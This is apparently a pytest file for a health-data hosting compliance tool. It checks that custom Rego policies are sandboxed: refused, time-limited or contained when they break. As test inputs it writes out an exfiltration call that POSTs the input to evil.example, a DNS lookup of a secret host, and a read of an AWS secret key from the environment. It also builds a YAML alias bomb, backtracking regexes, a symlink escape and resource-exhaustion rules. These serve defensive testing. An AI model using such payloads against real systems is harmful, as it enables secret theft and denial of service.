"""Custom policies that somebody wrote on purpose: each is contained and named, and the others still answer."""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from building import ON, inventory, resource
from command import Completed
from custom_policies import ELSEWHERE, FINDING, metadata, rule, write_policies
from estates import ON as DAY
from estates import estate
from msgspec.structs import replace

from hds_policy.config import ClassificationRule, Estate, Selector
from hds_policy.errors import PolicyError
from hds_policy.evaluation.custom import custom_findings, inspect_custom
from hds_policy.evaluation.sandbox.limits import LIMITS, Limits
from hds_policy.model import Cause, Finding, Result, SubjectKind
from hds_policy.pipeline import Knowledge, Prepared, prepare
from hds_policy.rules import load_custom

PATH = "custom/acme/rules/paris/paris.rego"
LINES = len(metadata().splitlines())
"""Lines before ``package``; a body begins two lines later."""
TEN = "_ten := [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]\n"
LOOPS = "\n".join(f"\tsome a{number} in _ten" for number in range(12))
SUM = " + ".join(f"a{number}" for number in range(12))
ENDLESS = (
    f"{TEN}deny contains finding if {{\n{LOOPS}\n\t{SUM} == -1\n"
    f"\tsome location in input.locations\n\tfinding := {FINDING}\n}}\n"
)
HUGE = (
    f'{TEN}_long := "{"x" * 900}"\n_all := [text |\n'
    + "\n".join(f"\tsome a{number} in _ten" for number in range(6))
    + '\n\ttext := concat(sprintf("%d%d%d%d%d%d", [a0, a1, a2, a3, a4, a5]), ['
    + ", ".join(["_long"] * 20)
    + "])\n]\n"
    + f"deny contains finding if {{\n\tcount(_all) == 3\n"
    f"\tsome location in input.locations\n\tfinding := {FINDING}\n}}\n"
)
"""A comprehension of a million texts of 18 kB."""
MANY = (
    f"{TEN}deny contains finding if {{\n\tsome location in input.locations\n"
    + "\n".join(f"\tsome a{number} in _ten" for number in range(4))
    + '\n\tfinding := {"subject": location.id, "codes": ["elsewhere"], "facts": '
    + '{"n": sprintf("%d%d%d%d", [a0, a1, a2, a3])}}\n}\n'
)
REGEX = (
    'deny contains finding if {\n\tregex.match("^(a+)+$", "' + "a" * 200 + '!")\n'
    f"\tsome location in input.locations\n\tfinding := {FINDING}\n}}\n"
)


@pytest.fixture(scope="module")
def knowledge() -> Knowledge:
    return Knowledge.shipped()


@pytest.fixture(scope="module")
def ready(knowledge: Knowledge) -> Prepared:
    """A bucket with health data in Virginia, and one declaration that fits nothing."""
    stale = ClassificationRule(Selector(match="aws_gone.*"), health=True, reason="it has gone")
    bucket = resource("aws_s3_bucket.a", {"tags": {"data_classification": "health"}}, settings={"region": "us-east-1"})
    return prepare(inventory(bucket), replace(Estate.default(), rules=(stale,)), knowledge, ON)


Ask = Callable[..., list[Finding]]


@pytest.fixture
def ask(knowledge: Knowledge, ready: Prepared, tmp_path: Path) -> Ask:
    """Findings of the custom rules in some files."""

    def findings(files: Mapping[str, str], limits: Limits = LIMITS) -> list[Finding]:
        folder = write_policies(tmp_path / "p", dict(files))
        policies = inspect_custom(load_custom([folder], knowledge.rules), knowledge.rules)
        return custom_findings(replace(policies, limits=limits), ready.questions, ON, ready.resources)

    return findings


def refusal(knowledge: Knowledge, folder: Path, limits: Limits = LIMITS) -> str:
    with pytest.raises(PolicyError) as caught:
        inspect_custom(load_custom([folder], knowledge.rules), knowledge.rules, limits)
    return "\n".join((caught.value.message, *caught.value.details))


def deny(*lines: str, finding: str = FINDING) -> str:
    """A rule that denies every location under some conditions."""
    head = "deny contains finding if {\n\tsome location in input.locations\n"
    return head + "".join(f"\t{line}\n" for line in lines) + f"\tfinding := {finding}\n}}\n"


def condition(text: str) -> dict[str, str]:
    return rule(deny(text))


REFUSED = {
    "exfiltration": (
        deny('http.send({"method": "POST", "url": "https://evil.example", "body": input})'),
        "4:2: `http.send` is not in the Rego subset: policies reach no network",
    ),
    "look_up": (deny('net.lookup_ip_addr("secret.evil.example") != set()'), "4:2: `net.lookup_ip_addr` is not"),
    "environment": (
        deny("opa.runtime().env.AWS_SECRET_ACCESS_KEY != 1"),
        "4:2: `opa.runtime` is not in the Rego subset",
    ),
    "clock": (deny("time.now_ns() > 5"), "4:2: `time.now_ns` is not in the Rego subset: the day of the evaluation is"),
    "printing": (deny('print("secret")'), "4:2: `print` is not in the Rego subset"),
    "itself": ("_f(x) := _f(x)\n" + deny("_f(1) == 1"), "2:1: recursion: custom.acme.rules.itself._f"),
    "functions": (
        "_f(x) := _g(x)\n_g(x) := _f(x)\n" + deny("_f(1) == 1"),
        "2:1: recursion: custom.acme.rules.functions._f",
    ),
    "circle": ("_a if _b\n_b if _a\n" + deny("_a"), "2:1: recursion: custom.acme.rules.circle._a"),
    "arguments": (deny("count(1, 2) == 1"), "4:2: `count` takes 1 arguments here, not 2"),
    "brackets": (deny("[" * 5000 + "]" * 5000 + " != 1"), "4:11: not valid Rego: more than 10 brackets open at once"),
    "no_set": ("deny := 1\n", "2:1: `deny` must be written"),
    "syntax": (deny("x := )"), "4:7: not valid Rego"),
    "public": ("x contains 1 if true\n" + deny(), "2:1: `x` is public"),
}
"""Rules outside the subset, and where in the body, which begins on line 2, that is said."""


@pytest.fixture(scope="module")
def violations(knowledge: Knowledge, tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("refused")
    for number, (name, (body, _)) in enumerate(REFUSED.items()):
        write_policies(folder, rule(body, name=name, identifier=f"ACME-{number:03}"))
    return refusal(knowledge, folder)


@pytest.mark.parametrize("name", REFUSED)
def test_refused_with_file_line_and_column(violations: str, name: str) -> None:
    line, column, message = REFUSED[name][1].split(":", 2)
    assert f"custom/acme/rules/{name}/{name}.rego:{LINES + int(line)}:{column}:{message}" in violations


def test_our_rules_are_out_of_reach(knowledge: Knowledge, tmp_path: Path) -> None:
    """A condition on what is not there never holds: such a rule would be silent."""
    body = deny("count(data.hds.rules.layer_admin.deny) == 0")
    message = refusal(knowledge, write_policies(tmp_path, rule(body)))
    assert f"{PATH}:{LINES + 4}:8: nothing defines `data.hds.rules.layer_admin.deny`" in message


def test_metadata_bomb_is_refused_where_it_stands(knowledge: Knowledge, tmp_path: Path) -> None:
    bomb = "  a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"  {new}: &{new} [{', '.join(f'*{old}' for _ in range(9))}]\n"
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    head = metadata()
    text = head.replace("#   remediation:", "".join(f"# {line}\n" for line in bomb.splitlines()) + "#   remediation:")
    message = refusal(knowledge, write_policies(tmp_path, rule(head=text)))
    assert f"{PATH}:14: METADATA is not valid YAML: an alias (*a)" in message


@pytest.mark.parametrize(
    "more", ["# deep: " + "[" * 9000 + "]" * 9000 + "\n", "# long: " + "x" * 20_000 + "\n"], ids=["deep", "long"]
)
def test_metadata_beyond_measure_is_refused(knowledge: Knowledge, tmp_path: Path, more: str) -> None:
    message = refusal(knowledge, write_policies(tmp_path, rule(head=metadata() + more)))
    assert f"{PATH}:2: METADATA is larger than 16 KiB" in message


def test_a_huge_file_is_refused(knowledge: Knowledge, tmp_path: Path) -> None:
    write_policies(tmp_path, rule(ELSEWHERE + "#" * (1 << 20)))
    assert f"{PATH}: larger than 1 MiB" in refusal(knowledge, tmp_path)


def test_bytes_that_are_no_text_are_refused(knowledge: Knowledge, tmp_path: Path) -> None:
    write_policies(tmp_path, rule())
    file = tmp_path / PATH
    before = file.read_bytes()
    file.write_bytes(before + b"# \xff\n")
    assert f"{PATH}: not UTF-8 (byte {len(before) + 2})" in refusal(knowledge, tmp_path)


def test_a_link_out_of_the_folder_is_refused(knowledge: Knowledge, tmp_path: Path) -> None:
    folder = write_policies(tmp_path / "p", rule())
    write_policies(tmp_path, {"secret": "password"})
    (folder / "custom/acme/lib").mkdir()
    (folder / "custom/acme/lib/a.rego").symlink_to(tmp_path / "secret")
    message = refusal(knowledge, folder)
    assert "custom/acme/lib/a.rego: leads out of the policies folder" in message
    assert "password" not in message


def test_a_named_pipe_is_not_waited_for(knowledge: Knowledge, tmp_path: Path) -> None:
    write_policies(tmp_path, rule())
    os.mkfifo(tmp_path / "custom/acme/rules/paris/paris_test.rego")
    assert "paris_test.rego: not a plain file" in refusal(knowledge, tmp_path)


def test_too_many_files_are_not_read(knowledge: Knowledge, tmp_path: Path) -> None:
    for number in range(501):
        write_policies(tmp_path, {f"custom/acme/lib/a{number}.rego": f"package custom.acme.lib.a{number}\n"})
    assert "more than 500 Rego files" in refusal(knowledge, tmp_path)


def test_a_module_that_ends_the_parser_is_refused(knowledge: Knowledge, tmp_path: Path) -> None:
    """Thousands of terms in one expression: the parser calls itself for each."""
    body = deny("x := " + " +\n".join(["1"] * 200_000), "x == 0")
    message = refusal(knowledge, write_policies(tmp_path, rule(body)), replace(LIMITS, memory_bytes=1 << 29))
    assert "custom policies" in message


@pytest.mark.parametrize(
    "subjects", ["settings", "law", "law/referentials", "placements", "version", "nothing", "locations/x", "unread"]
)
def test_a_table_that_does_not_exist_is_refused(knowledge: Knowledge, tmp_path: Path, subjects: str) -> None:
    """A rule over something that is no table would judge nothing, and nobody would see it."""
    message = refusal(knowledge, write_policies(tmp_path, rule(subjects=subjects)))
    assert f"{PATH}: METADATA custom.subjects:" in message


def test_patience_of_a_regular_expression_is_not_tried(ask: Ask) -> None:
    """The engine's expressions are linear: this one takes ages where they are not."""
    assert [finding.result for finding in ask(rule(REGEX))] == [Result.PASS]


def broken(findings: list[Finding], identifier: str = "ACME-001") -> str:
    """Why a rule gave no answer."""
    [finding] = [one for one in findings if one.rule == identifier]
    assert finding.result is Result.UNDETERMINED
    assert finding.cause is Cause.POLICY_ERROR
    assert finding.subject_kind is SubjectKind.RULE
    return finding.message


GOOD = rule(name="good", identifier="ACME-002")


@pytest.mark.parametrize(
    ("body", "limits", "named"),
    [
        (ENDLESS, Limits(cpu_seconds=1), "took more than 1 s of CPU time"),
        (ENDLESS, Limits(quiet_seconds=1.5), "said nothing for 2 s"),
        (HUGE, Limits(memory_bytes=1 << 28), "needs more than 256 MiB"),
        (MANY, Limits(answer_bytes=1 << 16), "answers with more than 0 MiB"),
        (deny('count(location.id + "x") > 0'), LIMITS, PATH),
        (deny('regex.match("(((a{500}){500}){500})", location.id)'), LIMITS, "compiled regex exceeded size limit"),
    ],
    ids=["endless", "silent", "memory", "millions", "types", "regex"],
)
def test_a_rule_that_breaks_is_named_and_the_others_answer(ask: Ask, body: str, limits: Limits, named: str) -> None:
    findings = ask(rule(body) | GOOD, limits)
    assert named in broken(findings)
    assert [one.result for one in findings if one.rule == "ACME-002"] == [Result.FAIL]


SHAPES = (
    "1",
    '"text"',
    "{}",
    '{"subject": location.id, "codes": ["elsewhere"]}',
    '{"subject": location.id, "codes": "elsewhere", "facts": {}}',
    '{"subject": location.id, "codes": [], "facts": {}}',
    '{"subject": location.id, "codes": ["nonsense"], "facts": {}}',
    '{"subject": 1, "codes": ["elsewhere"], "facts": {}}',
    '{"subject": "locations/999", "codes": ["elsewhere"], "facts": {}}',
    '{"subject": "placements/physical/1", "codes": ["elsewhere"], "facts": {}}',
    '{"subject": location.id, "codes": ["elsewhere"], "facts": {"n": 1}}',
    '{"subject": location.id, "codes": ["elsewhere"], "facts": {}, "rule": "HDS-001"}',
    '{"subject": location.id, "codes": ["elsewhere"], "facts": {}, "result": "pass"}',
)
"""Findings of another shape, for another table, or in the name of another rule."""


def test_an_answer_of_another_shape_is_no_answer(ask: Ask) -> None:
    files = dict(GOOD)
    for number, finding in enumerate(SHAPES):
        files |= rule(deny(finding=finding), name=f"shape_{number}", identifier=f"SHAPE-{number:03}")
    findings = ask(files)
    for number in range(len(SHAPES)):
        assert "`deny` " in broken(findings, f"SHAPE-{number:03}") or "gives no code" in broken(
            findings, f"SHAPE-{number:03}"
        )
    assert [one.result for one in findings if one.rule == "ACME-002"] == [Result.FAIL]


def test_no_time_is_left_for_later_rules_but_they_are_named(ask: Ask) -> None:
    findings = ask(rule(ENDLESS) | rule(name="rome", identifier="ACME-002"), Limits(cpu_seconds=1, total_seconds=0))
    assert "took more than 1 s" in broken(findings)
    assert "used up the time" in broken(findings, "ACME-002")


def forged(table: str) -> str:
    facts = ", ".join(
        f'"{name}": "forged"' for name in ("layer", "holder_id", "what", "name", "on", "region", "holder")
    )
    return (
        f"deny contains finding if {{\n\tsome subject in input.{table}\n"
        f'\tfinding := {{"subject": subject.id, "codes": ["elsewhere"], "facts": {{{facts}}}}}\n}}\n'
    )


def test_facts_of_a_rule_do_not_replace_what_is_known(ask: Ask) -> None:
    tables = ("locations", "unused", "holders", "registries")
    files: dict[str, str] = {}
    for number, table in enumerate(tables):
        files |= rule(forged(table), name=table, identifier=f"ACME-{number:03}", subjects=table)
    findings = ask(files)
    [located] = [finding for finding in findings if finding.rule == "ACME-000"]
    assert (located.result, located.subject) == (Result.FAIL, "aws_s3_bucket.a")
    assert located.message == "Amazon Web Services stores it in us-east-1."
    assert dict(located.facts)["on"] == "2026-11-23"
    assert {finding.rule for finding in findings} == {"ACME-000", "ACME-001", "ACME-002", "ACME-003"}
    assert {finding.result for finding in findings} == {Result.FAIL}
    assert "forged" not in {finding.subject for finding in findings}


def test_a_broken_rule_ends_the_command_with_3(
    write: Callable[..., Path], check: Callable[..., Completed], tmp_path: Path
) -> None:
    policies = write_policies(
        tmp_path / "p",
        rule(deny(finding='{"subject": 1}')) | rule(deny('location.region == "x"'), name="good", identifier="ACME-002"),
    )
    done = check(write(estate()), *DAY, "--policies", policies, "--format", "json")
    assert done.code == 3, done.out + done.err
    results = {finding["rule"]: finding for finding in done.json["findings"] if finding["rule"].startswith("ACME")}
    assert results["ACME-002"]["result"] == "pass"
    assert results["ACME-001"]["cause"] == "policy_error"


def test_a_refused_policy_ends_the_command_with_2(
    write: Callable[..., Path], check: Callable[..., Completed], tmp_path: Path
) -> None:
    policies = write_policies(tmp_path / "p", condition('http.send({"url": "https://evil.example"})'))
    done = check(write(estate()), *DAY, "--policies", policies)
    assert done.code == 2
    assert f"{PATH}:{LINES + 4}:2: `http.send`" in done.err
    assert done.out == ""
    assert "Traceback" not in done.err


def test_nothing_of_the_environment_reaches_a_policy(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    """Python's own switches do not either: the process starts isolated."""
    monkeypatch.setenv("PYTHONSTARTUP", "/nowhere")
    monkeypatch.setenv("PYTHONPATH", "/nowhere")
    monkeypatch.setenv("PYTHONVERBOSE", "1")
    assert [finding.result for finding in ask(rule())] == [Result.FAIL]
